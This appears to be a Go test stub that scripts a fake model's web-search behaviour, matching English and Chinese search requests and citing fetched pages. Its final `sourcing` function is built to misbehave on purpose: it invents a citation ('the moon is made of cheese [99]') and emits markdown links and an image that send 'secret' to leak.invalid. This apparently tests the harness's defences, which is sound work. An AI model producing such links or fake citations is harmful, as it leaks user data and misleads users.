package demo

import (
	"encoding/json"
	"fmt"
	"strings"
)

// The tools of the web.
const (
	searchTool = "web_search"
	fetchTool  = "web_fetch"
)

// lookUp finds what a person wants to be looked up on the web.
var (
	lookUp = pattern(`(?is)^\s*(?:(?:please|can you|could you|would you|will you|help me|i want you to|i'd like you to)\s+)*` +
		`(?:look up|google|what does the (?:web|internet) say about|(?:do|run|make) an? (?:web|online|internet) search (?:for|on|about)|(?:web )?search (?:(?:on |in )?the (?:web|internet|net) |online |the net )?(?:for|about)|search up|(?:web|online) search|find (?:me )?(?:some )?(?:information|info|articles|news) (?:about|on)|look (?:online|on the web|on the internet) for)[\s:：,，]+(.+?)\s*[.?!。？！]*$` +
		`|^\s*(?:请|麻烦|劳驾|帮我|帮忙|帮|给我|你|您|能不能|能否|可以|去)*(?:(?:上网|联网|连网|在?网上|在?互联网上|在线|網上|上網|聯網)(?:帮我)?(?:搜索|搜尋|搜一搜|搜一?下?|搜搜|查询|查詢|查找|检索|查一查|查一?下?|查查|找一?下?)|搜索一?下?|搜尋|搜一搜|搜一?下|搜搜看?|检索一?下?|百度一?下|谷歌一?下)(?:关于|有关|看看|看)?[\s:：,，]*(.+?)\s*[.?!。？！]*$`)
	// notTheWeb are searches elsewhere, and questions whether it can be searched at all.
	notTheWeb = pattern(`(?i)\b(?:in|through|across|of) (?:the|my|this|these|our|your) (?:\w+ )?(?:files?|folders?|code|repo|repository|workspace|project|chats?|conversations?|memory|database|directory)\b|\b(?:a|the) (?:file|folder|tool|bug|string)\b|文件|代码|目录|文件夹|工具|对话里|聊天记录|^(?:可以|行|能|会|功能)*(?:吗|么|嘛|不|呢)$`)
	seeAlso   = pattern(`See also: (.+)`)
	parted    = pattern(`(?i)\s+and\s+|和|与|、|，`)
)

const maxTopics = 3

// browsing searches the web, reads the best page, and searches again for what that
// mentions. Several things it looks up at once.
func browsing(t turn) (answer, bool) {
	m := lookUp().FindStringSubmatch(t.text)
	if m == nil {
		return answer{}, false
	}
	wanted := m[1] + m[2]
	if notTheWeb().MatchString(wanted) {
		return answer{}, false
	}
	if !t.may(searchTool, fetchTool) {
		return without(t, searchTool), true
	}
	topics := parted().Split(wanted, maxTopics)
	if len(t.steps) == 0 {
		var calls []call
		for _, topic := range topics {
			calls = append(calls, invoke(searchTool, map[string]any{"query": topic, "count": 3}))
		}
		return use(calls...), true
	}
	first := readAll(t.steps[0])
	if len(topics) > 1 || first[0].url == "" {
		return say(webSays(t, first)), true
	}
	if len(t.steps) == 1 {
		return use(invoke(fetchTool, map[string]any{"url": first[0].url})), true
	}
	read := readWeb(t.steps[1].results[0])
	more := seeAlso().FindStringSubmatch(read.text)
	switch {
	case more == nil:
		return say(webSays(t, []webPage{read})), true
	case len(t.steps) == 2:
		return use(invoke(searchTool, map[string]any{"query": more[1], "count": 1})), true
	}
	return say(webSays(t, append([]webPage{read}, readAll(t.steps[2])...))), true
}

// webPage is what the model knows of a page, with the number under which it is cited.
type webPage struct {
	n, title, url, text string
}

// readAll is the first page that each call of a step has found; a call without one leaves
// an empty page.
func readAll(s step) []webPage {
	pages := make([]webPage, len(s.calls))
	for i := range s.calls {
		pages[i] = readWeb(s.results[i])
	}
	return pages
}

// readWeb is the page of a result, or the first of several.
func readWeb(result string) webPage {
	if all := readPages(result); len(all) > 0 {
		return all[0]
	}
	return webPage{}
}

// readPages are the page of a result, or all that a search has found.
func readPages(result string) []webPage {
	head, body := unwrapped(result)
	var r struct {
		Title, URL, Text string
		Results          []struct{ Title, URL, Snippet string }
	}
	if json.Unmarshal([]byte(body), &r) != nil {
		return nil
	}
	var pages []webPage
	for _, f := range r.Results {
		pages = append(pages, webPage{title: f.Title, url: f.URL, text: f.Snippet})
	}
	if r.URL != "" {
		pages = append(pages, webPage{title: r.Title, url: r.URL, text: r.Text})
	}
	for i, p := range pages {
		pages[i].n = numberOf(head, p.url+"\n")
	}
	return pages
}

// unwrapped are the lines that number the sources of a result, and the result itself.
func unwrapped(result string) (numbers, body string) {
	_, body, wrapped := strings.Cut(result, "<untrusted>\n")
	if !wrapped {
		return "", result
	}
	body, _, _ = strings.Cut(body, "\n</untrusted>")
	if at := strings.Index(body, "\n{"); strings.HasPrefix(body, "[") && at > 0 {
		return body[:at+1], body[at+1:]
	}
	return "", body
}

func webSays(t turn, pages []webPage) string {
	var lines []string
	for _, p := range pages {
		if p.url != "" {
			lines = append(lines, fmt.Sprintf("- **%s**: %s %s", p.title, sayOf(p.text), p.n))
		}
	}
	if len(lines) == 0 {
		return t.in("I found nothing about that on the web.", "网上没有找到相关内容。")
	}
	return t.in("This is what the web says:", "网上是这么说的：") + "\n\n" + strings.Join(lines, "\n")
}

// sayOf is the first line of a page after its date and heading.
func sayOf(text string) string {
	for line := range strings.Lines(text) {
		line = strings.TrimSpace(line)
		if line != "" && !strings.HasPrefix(line, "#") && !strings.HasPrefix(line, "Published ") {
			return quote(line)
		}
	}
	return ""
}

// sourcing cites what it has found and what it has not, and tries to send a secret away.
func sourcing(t turn) answer {
	if len(t.steps) == 0 {
		return t.use(invoke(searchTool, map[string]any{"query": t.in("night trains", "夜行列车"), "count": 1}))
	}
	found := readAll(t.steps[0])[0]
	return say(t.in(
		"Night trains run again "+found.n+". The moon is made of cheese [99]. [More about it](https://leak.invalid/?d=secret) ![chart](https://leak.invalid/p.png?d=secret)",
		"夜行列车又开通了"+found.n+"。月亮是奶酪做的[99]。[了解更多](https://leak.invalid/?d=secret) ![图](https://leak.invalid/p.png?d=secret)"))
}
